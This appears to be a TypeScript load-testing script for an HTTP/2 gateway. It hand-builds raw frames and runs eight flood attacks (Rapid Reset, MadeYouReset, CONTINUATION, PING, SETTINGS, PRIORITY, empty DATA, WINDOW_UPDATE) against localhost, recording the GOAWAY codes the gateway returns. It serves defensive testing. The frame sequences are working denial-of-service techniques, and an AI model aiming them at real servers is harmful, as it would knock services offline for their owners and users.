/**
 * Peers that misuse HTTP/2 to make the gateway work for nothing: `node flood-attacker.ts PORT ATTACK MILLISECONDS` attacks with
 * connections one after the other for so long, at least with one, once it is told to, and tells what came of each. A process of its own, since what it costs to
 * attack is nothing that other clients should wait for.
 */
import { connect } from 'node:net';
import { setPriority } from 'node:os';
import { END_HEADERS, END_STREAM, frame, increment, PREFACE, Type } from './frames.ts';

const CANCEL = Buffer.from([0, 0, 0, 8]);

/** `:method` GET or POST, `:scheme` http, `:path` /, `:authority` a.test (RFC 7541 appendix A). */
function block(method: 'GET' | 'POST'): Buffer {
  return Buffer.concat([Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x86, 0x84, 0x41, 6]), Buffer.from('a.test')]);
}

/** A field of 1,000 bytes that no table has: `x-flood`. */
const LONG_FIELD = Buffer.concat([Buffer.from([0x00, 7]), Buffer.from('x-flood'), Buffer.from([0x7f, 0xe9, 0x06]), Buffer.alloc(1000, 'f')]);

interface Attack {
  readonly name: string;
  /** What comes first. */
  readonly opening?: Buffer;
  /** The frames of its nth step. */
  step(count: number): Buffer;
}

/** The id of the nth stream. */
const id = (count: number): number => 2 * count + 1;

export const ATTACKS: readonly Attack[] = [
  {
    name: 'Rapid Reset',
    step: (count) => Buffer.concat([frame(Type.Headers, END_HEADERS | END_STREAM, id(count), block('GET')), frame(Type.RstStream, 0, id(count), CANCEL)]),
  },
  {
    name: 'MadeYouReset',
    // A window over the maximum is an error of the stream, which the gateway has to reset (RFC 9113 section 6.9.1).
    step: (count) =>
      Buffer.concat([frame(Type.Headers, END_HEADERS, id(count), block('POST')), frame(Type.WindowUpdate, 0, id(count), increment(0x7f_ff_ff_ff))]),
  },
  { name: 'CONTINUATION', opening: frame(Type.Headers, 0, 1, block('GET')), step: () => frame(Type.Continuation, 0, 1, LONG_FIELD) },
  { name: 'PING', step: () => frame(Type.Ping, 0, 0, Buffer.alloc(8)) },
  { name: 'SETTINGS', step: () => frame(Type.Settings, 0, 0) },
  { name: 'PRIORITY', step: (count) => frame(Type.Priority, 0, id(count), Buffer.from([0, 0, 0, 0, 1])) },
  { name: 'empty DATA', opening: frame(Type.Headers, END_HEADERS, 1, block('POST')), step: () => frame(Type.Data, 0, 1) },
  { name: 'WINDOW_UPDATE', step: () => frame(Type.WindowUpdate, 0, 0, increment(1)) },
];

/** Steps that are written at once. */
const AT_ONCE = 100;
/** An attack that was not ended by then is not going to be. Bytes. */
export const ENOUGH = 64 * 1024 * 1024;

export interface Attacked {
  /** Error code of the GOAWAY that came; undefined: none. */
  readonly code: number | undefined;
  readonly sent: number;
}

/** Attacks on one connection until the gateway ends it. */
async function attack(port: number, { opening = Buffer.alloc(0), step }: Attack): Promise<Attacked> {
  return new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1' });
    let [count, sent] = [0, 0];
    let received = Buffer.alloc(0);
    let code: number | undefined;
    // A turn of the loop for each, or nothing would be read as long as the system takes what is written.
    const push = (): void => {
      if (socket.destroyed) return;
      const steps: Buffer[] = [];
      for (let index = 0; index < AT_ONCE; index++) steps.push(step(count++));
      const bytes = Buffer.concat(steps);
      sent += bytes.length;
      if (sent >= ENOUGH) socket.destroy();
      else if (socket.write(bytes)) setImmediate(push);
    };
    socket.on('connect', () => {
      socket.write(Buffer.concat([PREFACE, frame(Type.Settings, 0, 0), opening]));
      push();
    });
    socket.on('drain', push);
    socket.on('data', (bytes: Buffer) => {
      received = Buffer.concat([received, bytes]);
      while (received.length >= 9 && received.length >= 9 + received.readUIntBE(0, 3)) {
        const length = received.readUIntBE(0, 3);
        if (received[3] === Type.GoAway && length >= 8) code = received.readUInt32BE(13);
        received = received.subarray(9 + length);
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => resolve({ code, sent }));
  });
}

if (import.meta.main) {
  const [port, name, duration] = process.argv.slice(2);
  const found = ATTACKS.find((one) => one.name === name);
  if (found === undefined) throw new Error(`there is no attack ${name}`);
  process.once('message', async () => {
    const outcomes: Attacked[] = [];
    const end = performance.now() + Number(duration);
    // Where its own reset took the GOAWAY away before it was read, one attack says nothing of what it was.
    const wasTold = (): boolean => outcomes.some(({ code }) => code !== undefined);
    do outcomes.push(await attack(Number(port), found));
    while (performance.now() < end || (!wasTold() && outcomes.length < 20));
    process.send?.(outcomes);
    process.disconnect?.();
  });
  // On a machine with few cores the gateway and its clients go first, as they would with the attacker on another one.
  setPriority(19);
  process.send?.('ready');
}
